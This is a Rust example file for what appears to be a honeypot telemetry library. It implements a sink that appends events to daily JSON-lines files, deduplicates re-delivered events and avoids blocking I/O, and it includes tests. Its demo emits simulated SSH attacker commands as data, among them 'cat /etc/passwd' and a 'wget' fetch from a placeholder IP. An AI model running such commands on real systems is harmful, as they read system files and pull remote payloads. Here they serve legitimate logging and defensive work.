//! A custom sink, written as a user of the hpti crates would: appends events as JSON lines
//! to one file per UTC day (`2026-11-21.jsonl`), the shape many log shippers pick up.
//!
//! Sinks must be idempotent on the event id. A plain file cannot look ids up, so this one
//! remembers the ids of the last `remember` events it wrote: enough to absorb re-deliveries
//! of a batch after a retry, which is what the pipeline's at-least-once delivery produces.
//!
//! Run: `cargo run -p hpti-examples --example custom_sink`

use std::collections::{BTreeMap, HashSet, VecDeque};
use std::path::PathBuf;
use std::sync::Arc;

use async_trait::async_trait;
use hpti_core::event::{Event, EventId};
use hpti_core::sink::{Sink, SinkError, WriteReport};
use tokio::io::{AsyncWriteExt, BufWriter};

/// Day files kept open at once (today, and yesterday for late events); older ones are
/// flushed and closed.
const OPEN_DAYS: usize = 2;

/// Writes events to `dir/<UTC date>.jsonl`.
///
/// A sink runs on the pipeline's async runtime: blocking `std::fs` calls in `write`
/// would stall every task of that runtime thread while the disk works. File I/O goes
/// through `tokio::fs` (which runs it on the blocking pool) and a buffered writer, so a
/// batch of a thousand events is a few large writes, not a thousand small ones.
pub struct DailyJsonlSink {
    dir: PathBuf,
    // An async mutex: the state is held across `.await`s (a std `Mutex` guard must not
    // be, it would block the runtime thread of any other writer waiting for it).
    state: tokio::sync::Mutex<State>,
}

struct State {
    recent: Recent,
    files: BTreeMap<String, BufWriter<tokio::fs::File>>,
}

struct Recent {
    order: VecDeque<EventId>,
    set: HashSet<EventId>,
    capacity: usize,
}

impl DailyJsonlSink {
    /// A sink writing under `dir`, remembering the last `remember` ids.
    pub fn new(dir: impl Into<PathBuf>, remember: usize) -> Self {
        Self {
            dir: dir.into(),
            state: tokio::sync::Mutex::new(State {
                recent: Recent {
                    order: VecDeque::new(),
                    set: HashSet::new(),
                    capacity: remember.max(1),
                },
                files: BTreeMap::new(),
            }),
        }
    }

    /// The open writer of `day`'s file, opening it (and closing the oldest) if needed.
    async fn file<'a>(
        &self,
        files: &'a mut BTreeMap<String, BufWriter<tokio::fs::File>>,
        day: &str,
    ) -> Result<&'a mut BufWriter<tokio::fs::File>, SinkError> {
        if !files.contains_key(day) {
            tokio::fs::create_dir_all(&self.dir)
                .await
                .map_err(|e| SinkError::temporary("cannot create the output directory", e))?;
            let file = tokio::fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(self.dir.join(format!("{day}.jsonl")))
                .await
                .map_err(|e| SinkError::temporary("cannot open the day file", e))?;
            files.insert(day.to_owned(), BufWriter::new(file));
            while files.len() > OPEN_DAYS {
                if let Some((_, mut old)) = files.pop_first() {
                    old.flush()
                        .await
                        .map_err(|e| SinkError::temporary("cannot write the day file", e))?;
                }
            }
        }
        files
            .get_mut(day)
            .ok_or_else(|| SinkError::msg(hpti_core::error::ErrorClass::Temporary, "no day file"))
    }
}

#[async_trait]
impl Sink for DailyJsonlSink {
    fn name(&self) -> &str {
        "daily-jsonl"
    }

    async fn write(&self, events: &[&Event]) -> Result<WriteReport, SinkError> {
        let mut state = self.state.lock().await;
        let state = &mut *state;
        // Encoding is CPU work on memory: fine on the runtime thread.
        let mut by_day: BTreeMap<String, Vec<u8>> = BTreeMap::new();
        let mut fresh = Vec::new();
        for event in events {
            if state.recent.set.contains(&event.id) || fresh.contains(&event.id) {
                continue;
            }
            let day = event.time.to_string().chars().take(10).collect::<String>();
            let buffer = by_day.entry(day).or_default();
            serde_json::to_writer(&mut *buffer, event)
                .map_err(|e| SinkError::permanent("cannot encode event", e))?;
            buffer.push(b'\n');
            fresh.push(event.id);
        }
        for (day, bytes) in by_day {
            let file = self.file(&mut state.files, &day).await?;
            // A batch acknowledged must be on disk: flush the buffer and sync the file.
            file.write_all(&bytes)
                .await
                .map_err(|e| SinkError::temporary("cannot write the day file", e))?;
            file.flush()
                .await
                .map_err(|e| SinkError::temporary("cannot write the day file", e))?;
            file.get_ref()
                .sync_data()
                .await
                .map_err(|e| SinkError::temporary("cannot sync the day file", e))?;
        }
        let recent = &mut state.recent;
        for id in fresh {
            recent.set.insert(id);
            recent.order.push_back(id);
            if recent.order.len() > recent.capacity
                && let Some(old) = recent.order.pop_front()
            {
                recent.set.remove(&old);
            }
        }
        Ok(WriteReport::default())
    }

    /// Flushes and closes every open day file.
    async fn close(&self) -> Result<(), SinkError> {
        let mut state = self.state.lock().await;
        while let Some((_, mut file)) = state.files.pop_first() {
            file.flush()
                .await
                .map_err(|e| SinkError::temporary("cannot write the day file", e))?;
            file.get_ref()
                .sync_all()
                .await
                .map_err(|e| SinkError::temporary("cannot sync the day file", e))?;
        }
        Ok(())
    }
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    use hpti_core::event::{EventKind, Protocol};
    use hpti_core::pipeline::{Pipeline, PipelineConfig};

    let out = std::env::temp_dir().join("hpti-custom-sink-example");
    let sink = Arc::new(DailyJsonlSink::new(&out, 100_000));
    let config = PipelineConfig::with_dead_letter_path(out.join("dead-letters.jsonl"));
    let pipeline = Pipeline::builder(config)
        .sink(hpti_core::component::ComponentId::new("daily")?, sink)
        .start()?;
    let emitter = pipeline.emitter();
    for command in ["uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x"] {
        let event = Event::new(
            "example",
            Protocol::Ssh,
            "198.51.100.7".parse()?,
            EventKind::CommandInput {
                command: command.into(),
            },
        );
        emitter.emit(event).await?;
    }
    drop(emitter);
    pipeline.shutdown().await;
    println!("wrote events under {}", out.display());
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use hpti_core::event::{EventKind, Protocol, Timestamp};

    fn event(day_offset: i64) -> Event {
        Event::new(
            "t",
            Protocol::Ssh,
            "192.0.2.1".parse().unwrap(),
            EventKind::SessionStarted,
        )
        .with_time(Timestamp::from_micros(
            1_767_225_600_000_000 + day_offset * 86_400_000_000,
        ))
    }

    fn lines(path: PathBuf) -> usize {
        std::fs::read_to_string(path)
            .map(|t| t.lines().count())
            .unwrap_or(0)
    }

    /// Users copy examples: the sink itself must not block a runtime thread on file
    /// I/O (its tests may).
    #[test]
    fn the_sink_does_its_file_io_off_the_runtime_threads() {
        let source = include_str!("custom_sink.rs");
        let sink_code = source.split("#[cfg(test)]").next().unwrap_or(source);
        for blocking in ["std::fs::", "std::io::Write", "std::thread::sleep"] {
            let uses = sink_code
                .lines()
                .filter(|line| !line.trim_start().starts_with("//"))
                .filter(|line| line.contains(blocking))
                .count();
            assert_eq!(uses, 0, "the example sink calls blocking `{blocking}`");
        }
    }

    #[tokio::test]
    async fn splits_by_day_and_absorbs_redelivery() {
        let dir = tempfile::tempdir().unwrap();
        let sink = DailyJsonlSink::new(dir.path(), 10);
        let events = [event(0), event(0), event(1)];
        let refs: Vec<&Event> = events.iter().collect();
        sink.write(&refs).await.unwrap();
        sink.write(&refs).await.unwrap();
        assert_eq!(lines(dir.path().join("2026-01-01.jsonl")), 2);
        assert_eq!(lines(dir.path().join("2026-01-02.jsonl")), 1);
        // A third day closes the oldest file; everything stays written.
        sink.write(&[&event(2)]).await.unwrap();
        sink.close().await.unwrap();
        assert_eq!(lines(dir.path().join("2026-01-01.jsonl")), 2);
        assert_eq!(lines(dir.path().join("2026-01-03.jsonl")), 1);
    }

    #[tokio::test]
    async fn passes_through_a_real_pipeline() {
        use hpti_core::pipeline::{Pipeline, PipelineConfig};
        let dir = tempfile::tempdir().unwrap();
        let sink = Arc::new(DailyJsonlSink::new(dir.path().join("out"), 10));
        let config = PipelineConfig::with_dead_letter_path(dir.path().join("dlq.jsonl"));
        let pipeline = Pipeline::builder(config)
            .sink(
                hpti_core::component::ComponentId::new("daily").unwrap(),
                sink,
            )
            .start()
            .unwrap();
        let emitter = pipeline.emitter();
        emitter
            .emit(event(0).with_time(Timestamp::now()))
            .await
            .unwrap();
        drop(emitter);
        pipeline.shutdown().await;
        let day = Timestamp::now().to_string()[..10].to_owned();
        assert_eq!(lines(dir.path().join(format!("out/{day}.jsonl"))), 1);
    }
}
